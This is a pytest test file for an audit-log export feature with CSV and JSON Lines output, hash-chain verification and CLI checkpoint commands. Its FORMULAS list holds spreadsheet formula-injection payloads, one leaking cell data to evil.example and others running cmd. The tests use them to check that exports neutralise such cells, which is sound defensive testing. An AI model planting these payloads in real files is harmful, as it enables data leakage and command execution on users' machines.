"""Exports of the audit log (web and CLI) and the checkpoint/verify commands,
on SQLite and PostgreSQL: exactly the filtered rows, formula cells
neutralised, JSON Lines whose hashes recompute, the export recorded before a
byte is sent, streamed in batches; a checkpoint that exposes a truncated tail."""

import csv
import io
import json
import tracemalloc

import pytest
import sqlalchemy as sa
from sqlalchemy import select

from reviewapp.audit.chain import GENESIS_HASH, canonical_json, link_hash
from reviewapp.audit.models import AuditEvent
from tests.conftest import CSRFClient
from tests.integration.test_audit_browse import add_events, all_seqs
from tests.integration.test_audit_log import HMAC_KEY, tampering


def _db():
    from reviewapp.extensions import db

    return db


@pytest.fixture
def admin(make_user):
    return make_user(roles=["admin"], name="Ada Admin", email="ada@example.org")


@pytest.fixture
def admin_client(app, admin, client, login_as):
    login_as(admin)
    return client


def events_where(app, *conditions) -> list[int]:
    with app.app_context():
        return list(_db().session.scalars(select(AuditEvent.seq).where(*conditions)
                                          .order_by(AuditEvent.seq)))


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def jsonl(text: str) -> list[dict]:
    assert text.endswith("\n") or text == ""
    return [json.loads(line) for line in text.splitlines()]


def exported(client, fmt, query="") -> tuple[str, dict]:
    response = client.get(f"/admin/audit/export.{fmt}?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[-2000:]
    return response.get_data(as_text=True), response.headers


def last_export_event(app) -> AuditEvent:
    with app.app_context():
        event = _db().session.scalar(select(AuditEvent).where(
            AuditEvent.action == "audit.exported").order_by(AuditEvent.seq.desc()).limit(1))
        _db().session.expunge(event)
        return event


# --- CSV ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, admin_client, admin,
                                                                 make_user):
    plotter = make_user(roles=["editor"], name=FORMULAS[0])
    add_events(app, [{"action": "article.rejected", "actor_id": plotter.id, "reason": reason,
                      "object_type": "article", "object_id": "-1"} for reason in FORMULAS])
    text, _ = exported(admin_client, "csv", "action=article.rejected")
    rows = csv_rows(text)
    assert [row["reason"] for row in rows] == ["'" + f for f in FORMULAS]
    assert {row["actor_name"] for row in rows} == {"'" + FORMULAS[0]}
    assert {row["object_id"] for row in rows} == {"'-1"}
    for row in rows:  # nothing else starts like a formula
        assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_has_a_header_and_every_column_of_the_event(app, admin_client, admin):
    (seq,) = add_events(app, [{"action": "user.deactivated", "actor_id": admin.id,
                               "object_type": "user", "object_id": admin.id,
                               "reason": "Left, \"for good\"\nsecond line",
                               "details": {"before": {"active": True},
                                           "after": {"active": False}}}])
    text, headers = exported(admin_client, "csv", "action=user.deactivated")
    assert text.splitlines()[0] == ("seq,occurred_at,actor_id,actor_name,actor_email,ip,action,"
                                    "object_type,object_id,article_id,reason,details,"
                                    "prev_hash,hash")
    (row,) = csv_rows(text)
    with app.app_context():
        stored = _db().session.get(AuditEvent, seq)
        assert row["seq"] == str(seq) and row["hash"] == stored.hash
        assert row["prev_hash"] == stored.prev_hash
        assert row["occurred_at"] == json.loads(stored.canonical)["occurred_at"]
    assert row["reason"] == "Left, \"for good\"\nsecond line"
    assert json.loads(row["details"]) == {"after": {"active": False},
                                          "before": {"active": True}}
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"].startswith('attachment; filename="audit-')
    assert headers["Cache-Control"] == "no-store"


# --- JSON Lines ------------------------------------------------------------------------------

def assert_lines_verify(lines: list[dict], key: bytes | None = None, linked: bool = True):
    for n, line in enumerate(lines):
        assert link_hash(line["prev_hash"], line["canonical"], key) == line["hash"]
        fields = {k: v for k, v in line.items() if k not in ("canonical", "prev_hash", "hash")}
        assert canonical_json(fields) == line["canonical"]
        if linked:
            assert line["prev_hash"] == (lines[n - 1]["hash"] if n else GENESIS_HASH)


def test_jsonl_lines_carry_the_hashes_and_each_link_recomputes(app, admin_client, admin,
                                                              make_user, make_article):
    make_article(make_user(roles=["author"], name="Dr. Åsa Ängström"))
    add_events(app, [{"action": "article.submitted", "actor_id": admin.id,
                      "details": {"dose_mg": 400.5, "ok": True, "note": "Åsa"}}])
    text, _ = exported(admin_client, "jsonl")
    lines = jsonl(text)
    assert [line["seq"] for line in lines] == all_seqs(app)[:-1]  # all but the export itself
    assert_lines_verify(lines)


def test_jsonl_of_a_filtered_set_verifies_line_by_line(app, admin_client, admin):
    add_events(app, [{"action": "article.submitted" if n % 2 else "user.login",
                      "actor_id": admin.id} for n in range(10)])
    lines = jsonl(exported(admin_client, "jsonl", "action=article.")[0])
    assert len(lines) == 5 and {line["action"] for line in lines} == {"article.submitted"}
    assert_lines_verify(lines, linked=False)


def test_jsonl_of_a_keyed_log_verifies_with_the_key(app_config, make_user):
    from reviewapp import create_app

    keyed = create_app({**app_config, "AUDIT_HMAC_KEY": HMAC_KEY})
    keyed.test_client_class = CSRFClient
    try:
        admin = make_user(roles=["admin"])
        client = keyed.test_client()
        client.post("/login", data={"email": admin.email, "password": "correct horse battery"})
        lines = jsonl(client.get("/admin/audit/export.jsonl").get_data(as_text=True))
        assert len(lines) == 2  # the admin created (make_user's app, no key), then login
        assert_lines_verify(lines[1:], key=HMAC_KEY.encode(), linked=False)
    finally:
        with keyed.app_context():
            _db().session.remove()
            _db().engine.dispose()


# --- exactly the filtered set, recorded first ---------------------------------------------------

@pytest.fixture
def varied(app, admin, make_user, make_article):
    author = make_user(roles=["author"], name="Alice Author")
    first, second = make_article(author), make_article(author, title="Second")
    add_events(app, [{"action": ("article.submitted", "article.rejected", "user.login")[n % 3],
                      "actor_id": (admin.id, author.id)[n % 2],
                      "article_id": (first, second)[n % 2] if n % 3 != 2 else None,
                      "object_type": "article", "object_id": (first, second)[n % 2],
                      "reason": f"step {n}"} for n in range(30)])
    return {"author": author, "articles": (first, second)}


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize(("query", "conditions"), [
    ("", lambda v: []),
    ("action=article.", lambda v: [AuditEvent.action.like("article.%")]),
    ("action=article.rejected", lambda v: [AuditEvent.action == "article.rejected"]),
    ("article={a1}", lambda v: [AuditEvent.article_id == v["articles"][1]]),
    ("actor={author}&action=user.", lambda v: [AuditEvent.actor_id == v["author"].id,
                                               AuditEvent.action.like("user.%")]),
    ("q=step%201", lambda v: [AuditEvent.reason.like("step 1%")]),
    ("since=2000-01-01&until=2000-12-31", lambda v: [sa.false()]),
])
def test_an_export_holds_exactly_the_filtered_events(app, admin_client, varied, fmt, query,
                                                     conditions):
    query = query.format(a1=varied["articles"][1], author=varied["author"].id)
    expected = events_where(app, *conditions(varied))
    text, headers = exported(admin_client, fmt, query)
    rows = csv_rows(text) if fmt == "csv" else jsonl(text)
    assert [int(row["seq"]) for row in rows] == expected
    assert headers["X-Audit-Export-Rows"] == str(len(expected))
    event = last_export_event(app)
    assert event.details["rows"] == len(expected)
    assert event.details["format"] == fmt
    assert event.object_type == "audit_log"


def test_the_export_event_names_the_filters_and_the_head_it_stopped_at(app, admin_client,
                                                                       varied):
    head = all_seqs(app)[-1]
    exported(admin_client, "csv",
             f"action=article.&article={varied['articles'][0]}&since=2020-01-01"
             "&until=2099-12-31&q=step&actor=ada@example.org")
    event = last_export_event(app)
    assert event.seq == head + 1 and event.actor_email == "ada@example.org"
    assert event.details["filters"] == {
        "action": "article.", "article_id": varied["articles"][0], "since": "2020-01-01",
        "until": "2099-12-31", "text": "step", "actor_id": event.actor_id}
    assert event.details["through"].startswith(f"{head}:")


def test_the_export_is_recorded_and_committed_before_the_first_byte(app, admin_client, varied):
    before = all_seqs(app)[-1]
    response = admin_client.get("/admin/audit/export.jsonl")
    assert response.is_streamed
    # Nothing read from the body yet: the event is already there for everyone.
    assert events_where(app, AuditEvent.seq > before,
                        AuditEvent.action == "audit.exported") == [before + 1]
    lines = jsonl(response.get_data(as_text=True))
    assert lines[-1]["seq"] == before  # the export's own event is not in it


def test_the_export_streams_in_batches(app, admin_client, varied, monkeypatch):
    from reviewapp.audit import export

    monkeypatch.setattr(export, "ROWS_PER_CHUNK", 4)
    response = admin_client.get("/admin/audit/export.csv")
    chunks = [chunk for chunk in response.response if chunk]
    response.close()
    assert len(chunks) >= len(all_seqs(app)) // 4
    assert all(chunk.count(b"\n") <= 5 for chunk in chunks[1:])


def test_an_invalid_filter_exports_nothing_and_records_nothing(app, admin_client, varied):
    before = all_seqs(app)
    response = admin_client.get("/admin/audit/export.csv?since=soon")
    assert response.status_code == 400
    assert all_seqs(app) == before
    assert admin_client.get("/admin/audit/export.xlsx").status_code == 404


def test_export_memory_stays_bounded_as_the_log_grows(app, admin, monkeypatch):
    """Python memory while exporting 600 and then 3,000 events (read 100 rows
    a batch, written 50 a chunk): the peak does not grow with the log."""
    from reviewapp.audit import export, queries
    from reviewapp.audit.export import chunks, start_export
    from reviewapp.audit.queries import AuditFilter

    monkeypatch.setattr(queries, "EXPORT_BATCH", 100)
    monkeypatch.setattr(export, "ROWS_PER_CHUNK", 50)

    def peak_while_exporting() -> tuple[int, int]:
        with app.app_context():
            started = start_export(AuditFilter(), "jsonl")
            tracemalloc.start()
            size = sum(len(chunk) for chunk in chunks(started))
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            _db().session.rollback()
            return size, peak

    add_events(app, [{"action": "user.login", "actor_id": admin.id,
                      "details": {"n": n, "padding": "x" * 200}} for n in range(600)])
    small_size, small_peak = peak_while_exporting()
    add_events(app, [{"action": "user.login", "actor_id": admin.id,
                      "details": {"n": n, "padding": "x" * 200}} for n in range(2400)])
    large_size, large_peak = peak_while_exporting()
    assert large_size > 4 * small_size
    assert large_peak < 2 * small_peak, (small_peak, large_peak)


# --- the CLI -------------------------------------------------------------------------------------

def cli(app, *args, stdin=None):
    return app.test_cli_runner().invoke(args=["audit", *args], input=stdin)


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_cli_export_writes_the_filtered_set_to_a_file(app, varied, tmp_path, fmt):
    target = tmp_path / f"out.{fmt}"
    expected = events_where(app, AuditEvent.action.like("article.%"),
                            AuditEvent.article_id == varied["articles"][0])
    result = cli(app, "export", "--format", fmt, "--action", "article.", "--article",
                 str(varied["articles"][0]), "--since", "2020-01-01", "--until", "2099-12-31",
                 "--output", str(target))
    assert result.exit_code == 0, result.output
    assert f"Exported {len(expected)} events to {target}." in result.stderr
    text = target.read_text(encoding="utf-8")
    rows = csv_rows(text) if fmt == "csv" else jsonl(text)
    assert [int(row["seq"]) for row in rows] == expected
    event = last_export_event(app)
    assert event.actor_id is None and event.details["rows"] == len(expected)
    assert event.details["filters"] == {"action": "article.",
                                        "article_id": varied["articles"][0],
                                        "since": "2020-01-01", "until": "2099-12-31"}


def test_cli_export_writes_to_standard_output_by_default(app, varied):
    result = cli(app, "export", "--format", "jsonl")
    assert result.exit_code == 0, result.stderr
    lines = jsonl(result.stdout)
    assert [line["seq"] for line in lines] == all_seqs(app)[:-1]
    assert_lines_verify(lines)


@pytest.mark.parametrize(("args", "message"), [
    (["--format", "xlsx"], "'xlsx' is not one of 'csv', 'jsonl'"),
    (["--format", "csv", "--since", "May"], "expected a date, YYYY-MM-DD (UTC)"),
    (["--format", "csv", "--since", "2026-05-02", "--until", "2026-05-01"],
     "the end date is before the start date"),
    (["--format", "csv", "--article", "0"], "0 is not in the range x>=1"),
])
def test_cli_export_refuses_bad_options_and_records_nothing(app, varied, args, message):
    before = all_seqs(app)
    result = cli(app, "export", *args)
    assert result.exit_code == 2
    assert message in result.output
    assert all_seqs(app) == before


def test_checkpoint_prints_the_head(app, admin):
    add_events(app, [{"action": "user.login", "actor_id": admin.id}] * 3)
    with app.app_context():
        last = _db().session.get(AuditEvent, all_seqs(app)[-1])
        expected = f"{last.seq}:{last.hash}\n"
    result = cli(app, "checkpoint")
    assert result.exit_code == 0 and result.output == expected
    assert all_seqs(app)[-1] == last.seq  # a checkpoint writes nothing


def test_checkpoint_then_verify_expect_head_catches_a_truncated_tail(app, admin):
    add_events(app, [{"action": "user.login", "actor_id": admin.id}] * 5)
    checkpoint = cli(app, "checkpoint").output.strip()
    assert cli(app, "verify", "--expect-head", checkpoint).exit_code == 0
    rows = all_seqs(app)
    with app.app_context():
        kept = _db().session.get(AuditEvent, rows[-3])
        kept_seq, kept_hash = kept.seq, kept.hash
    with tampering(app) as conn:  # drop the last two events and rewind the head row
        conn.execute(sa.text("DELETE FROM audit_event WHERE seq > :seq"), {"seq": kept_seq})
        conn.execute(sa.text("UPDATE audit_head SET seq = :seq, hash = :hash WHERE id = 1"),
                     {"seq": kept_seq, "hash": kept_hash})
    alone = cli(app, "verify")
    assert alone.exit_code == 0  # the remaining log is consistent: only a checkpoint shows it
    result = cli(app, "verify", "--expect-head", checkpoint)
    assert result.exit_code == 1
    assert (f"Audit chain broken at event {kept_seq + 1}: the log ends at event {kept_seq} "
            f"but the checkpoint is event {rows[-1]}") in result.output


def test_verify_with_record_appends_the_outcome(app, admin):
    add_events(app, [{"action": "user.login", "actor_id": admin.id}] * 2)
    head = cli(app, "checkpoint").output.strip()
    before = all_seqs(app)
    plain = cli(app, "verify")
    assert plain.exit_code == 0 and all_seqs(app) == before  # verifying alone writes nothing
    result = cli(app, "verify", "--record", "--expect-head", head)
    assert result.exit_code == 0, result.output
    with app.app_context():
        event = _db().session.get(AuditEvent, before[-1] + 1)
        assert event.action == "audit.verified" and event.actor_id is None
        assert event.details == {"result": "intact", "events": len(before), "head": head,
                                 "expected_head": head}
    assert cli(app, "verify").exit_code == 0  # the chain still verifies with it


@pytest.mark.filterwarnings("ignore:.*was deleted while still open:ResourceWarning")
def test_verify_with_record_appends_a_failed_outcome_too(app, admin):
    add_events(app, [{"action": "user.login", "actor_id": admin.id, "reason": "as it was"}] * 3)
    with tampering(app) as conn:
        conn.execute(sa.text("UPDATE audit_event SET reason = 'forged' WHERE seq = 2"))
    result = cli(app, "verify", "--record")
    assert result.exit_code == 1
    with app.app_context():
        event = _db().session.scalar(select(AuditEvent).order_by(AuditEvent.seq.desc())
                                     .limit(1))
        assert event.action == "audit.verified"
        assert event.details["result"] == "broken" and event.details["broken_seq"] == 2
        assert event.reason.startswith("Audit chain broken at event 2")


def test_verify_reports_progress_as_it_streams(app, admin, monkeypatch):
    from reviewapp.audit import services

    monkeypatch.setattr(services, "PROGRESS_EVERY", 3)
    add_events(app, [{"action": "user.login", "actor_id": admin.id}] * 7)
    calls = []
    with app.app_context():
        result = services.verify_chain(progress=lambda done, total: calls.append((done, total)))
    assert result.ok
    total = len(all_seqs(app))
    assert calls == [(3, total), (6, total), (total, total)]
